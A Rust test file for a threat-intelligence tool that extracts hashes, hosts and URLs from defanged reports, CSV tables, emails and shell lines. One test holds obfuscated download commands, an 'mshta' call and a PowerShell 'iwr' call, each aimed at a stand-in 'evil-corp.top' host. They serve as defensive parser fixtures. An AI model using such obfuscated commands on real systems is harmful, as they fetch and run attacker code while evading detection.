//! Kinds of faults that reading had, one case each: the least text that shows it, and all that may be ticked of it.

use std::collections::BTreeSet;

use vtriage::inside;
use vtriage::ioc::{ExtractOptions, extract};

pub(crate) fn only(input: &str, wanted: &[&str]) {
    let extraction = extract(input, &ExtractOptions::default());
    let found: BTreeSet<String> = extraction.ticked().map(ToString::to_string).collect();
    assert_eq!(found, wanted.iter().map(ToString::to_string).collect(), "{input}\n{:#?}", extraction.items);
}

/// The same of a mail; who sent it and what it brings are listed beside that.
pub(crate) fn only_of_mail(input: &str, wanted: &[&str]) {
    let items = inside::text(input, &inside::Options::default()).items;
    let in_text = items.iter().filter(|item| item.ticked && item.part.is_none() && !item.remark.starts_with("From: "));
    let found: BTreeSet<String> = in_text.map(|item| item.indicator.to_string()).collect();
    assert_eq!(found, wanted.iter().map(ToString::to_string).collect(), "{input}\n{items:#?}");
}

#[test]
fn x01_the_first_row_of_a_table_without_a_head_is_read() {
    only(
        "e809376fe32e44c957347816a47b3d65,Loader\n7809376fe32e44c957347816a47b3d65,Stage two\n",
        &["7809376fe32e44c957347816a47b3d65", "e809376fe32e44c957347816a47b3d65"],
    );
}

#[test]
fn x03_a_hash_between_invisible_signs_is_found() {
    only(
        "\u{200b}7809376fe32e44c957347816a47b3d65\u{200b}\n\u{feff}e17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862\n",
        &["7809376fe32e44c957347816a47b3d65", "e17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862"],
    );
}

#[test]
fn x05_a_redacted_host_gives_nothing() {
    only("http://pay[censored]portal.example.net/a\nhttp://m.p[BLOCKED]h.example.org/b\nev***il.example.com\n", &[]);
}

#[test]
fn x06_paths_to_other_machines_give_their_host() {
    only(
        "\\\\198.51.100.7\\share\\a.vbs\n\\\\198.51.100.8@80\\share\\a.msi\n\\\\dav[.]example[.]net@SSL\\DavWWWRoot\\a.bat\nfile://198.51.100.9@80/a.zip\nfile:\\\\host.example.org\\x.hta\n",
        &["198.51.100.7", "198.51.100.8", "198.51.100.9", "dav.example.net", "host.example.org"],
    );
}

#[test]
fn x07_a_filename_by_its_type_is_no_domain() {
    only("filename,1.one\nfilename,invoice.one\ndomain,files.example.net\n", &["files.example.net"]);
}

#[test]
fn x08_a_domain_by_its_type_stays_ticked_among_defanged_urls() {
    only(
        "type,data,note\nurl,hxxp://d0.example.net/a,x\nurl,hxxp://d1.example.net/a,x\nurl,hxxp://d2.example.net/a,x\nurl,hxxp://d3.example.net/a,x\nurl,hxxp://d4.example.net/a,x\nurl,hxxp://d5.example.net/a,x\ndomain,c2.example.org,C2\ndomain_port,pool.example.org:6363,pool\n",
        &[
            "c2.example.org",
            "http://d0.example.net/a",
            "http://d1.example.net/a",
            "http://d2.example.net/a",
            "http://d3.example.net/a",
            "http://d4.example.net/a",
            "http://d5.example.net/a",
            "pool.example.org",
        ],
    );
}

#[test]
fn x10_versioned_file_names_are_no_domains() {
    only("log-core-2.14.1.zip\nrun-1.2.3.sh\nbackup.2026.01.05.zip\nFile name: 8662.03.8195.zip\n", &[]);
}

#[test]
fn x12_other_spellings_of_schemes_keep_the_url() {
    only(
        "h[tt]p://a.example.net/p\nhtt[p]://b.example.net/p\nhXXXp://c.example.net/p\nhxxps:/d.example.net/p\nhxxp//e.example.net/p\nttp://f.example.net/p\n",
        &[
            "http://a.example.net/p",
            "http://b.example.net/p",
            "http://c.example.net/p",
            "http://e.example.net/p",
            "http://f.example.net/p",
            "https://d.example.net/p",
        ],
    );
}

#[test]
fn x13_percent_encoded_rests_are_cut() {
    only(
        "hxxp://198.51.100[.]64%20\nhxxp://cdn.example[.]net%20\nsrc=%22hxxp://js.example[.]org/a.js%22\n",
        &["http://198.51.100.64", "http://cdn.example.net", "http://js.example.org/a.js"],
    );
}

#[test]
fn x15_the_words_of_an_asciidoc_link_are_cut() {
    only(
        "see https://cdn.example.net/x/[the post] and http://dl.example.org/y[here].\n",
        &["http://dl.example.org/y", "https://cdn.example.net/x/"],
    );
}

#[test]
fn x16_text_in_a_part_that_claims_base64_is_read() {
    only_of_mail(
        "From: a@example.org\nTo: b@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"BB\"\n\n--BB\nContent-Type: application/msword; name=\"a.doc\"\nContent-Transfer-Encoding: base64\n\nRemoved. SHA256:\ne17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862\n\n--BB--\n",
        &["e17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862"],
    );
}

#[test]
fn x18_links_below_a_heading_of_references_are_unticked() {
    only(
        "**References**:\nhttps://blog.example.net/post.html\nhttps://lab.example.org/r.pdf\n\n**IOCs**\nhttp://dl.example.com/a\n",
        &["http://dl.example.com/a"],
    );
}

#[test]
fn x19_a_host_before_a_path_is_found() {
    only("root@198.51.100.7:/tmp/x\nfiles.example.net:/pub/a\n", &["198.51.100.7", "files.example.net"]);
}

#[test]
fn x20_the_link_of_a_gateway_gives_the_url_inside() {
    only("https://urldefense.com/v3/__https://dl.example.net/a__;!!x\n", &["https://dl.example.net/a"]);
}

#[test]
fn an_address_between_escapes_of_a_shell_is_the_one_that_the_shell_opens() {
    only("mshta ht^tp://b16.e^vil-corp.top/a\n", &["http://b16.evil-corp.top/a"]);
    only("iwr h`ttp://b19.e`vil-corp.top/x -OutFile a\n", &["http://b19.evil-corp.top/x"]);
}

#[test]
fn x21_links_to_the_service_give_their_object() {
    only(
        "https://www.virustotal.com/gui/file/e17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862/detection\nhttps://www.virustotal.com/en/file/e17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862/analysis/\nhttps://www.virustotal.com/gui/domain/a.example.net/relations\n",
        &["a.example.net", "e17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862"],
    );
}

#[test]
fn x23_a_host_with_a_placeholder_gives_nothing() {
    only("https://{random}.example.net/a\nhttps://*.example.org/x\nhttps://dl.example.com/k.php?t=<host>\n", &[]);
}

#[test]
fn x24_a_host_with_two_dots_gives_nothing() {
    only("http://evil..example.net/a\n", &[]);
    only(&format!("http://{}.example.net/a\n{}.example.net\n", "a".repeat(64), "b".repeat(64)), &[]);
}

#[test]
fn x25_a_user_at_an_address_gives_the_address() {
    only("Failed password for root from 198.51.100.7\nroot@198.51.100.8\n", &["198.51.100.7", "198.51.100.8"]);
}
